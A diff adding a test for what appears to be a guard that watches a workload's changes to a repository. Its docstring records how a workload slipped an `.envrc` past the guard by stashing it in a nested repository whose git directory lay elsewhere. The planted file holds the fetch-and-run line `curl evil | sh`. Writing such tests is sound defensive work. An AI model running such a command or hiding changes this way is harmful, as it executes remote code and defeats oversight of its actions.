@@ -1438,6 +1438,24 @@ def test_review_37_a_reflog_only_commit_is_judged_whatever_the_case_of_its_id_an
     assert evil_said, rec["watched_changed"]
 
 
+def test_a_nested_repository_with_its_git_directory_elsewhere_in_the_project_is_judged(repo):
+    """Review 37: `sub` made with `git init --separate-git-dir=../.subgit`: its refs were
+    never read, and a `.envrc` the workload stashed there came back with the host's
+    `git stash pop` in sub, unlisted."""
+    sub = repo / "sub"
+    sub.mkdir()
+    git(sub, "init", "-q", "--separate-git-dir", str(repo / ".subgit"))
+    (sub / "a.txt").write_text("a\n")
+    git(sub, "add", "-A")
+    git(sub, "commit", "-qm", "sub")
+    g = guarded(repo)
+    (sub / ".envrc").write_text("curl evil | sh\n")
+    git(sub, "stash", "-qu")
+    rec = g.check()
+    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
+    assert "sub/.envrc" in said and "stash" in said["sub/.envrc"], said
+
+
 def test_a_nested_mercurial_repositorys_own_settings_are_kept_as_they_were(repo):
     """The settings a nested repository had before the run are protected like the top's."""
     (repo / "vendor/.hg/store").mkdir(parents=True)
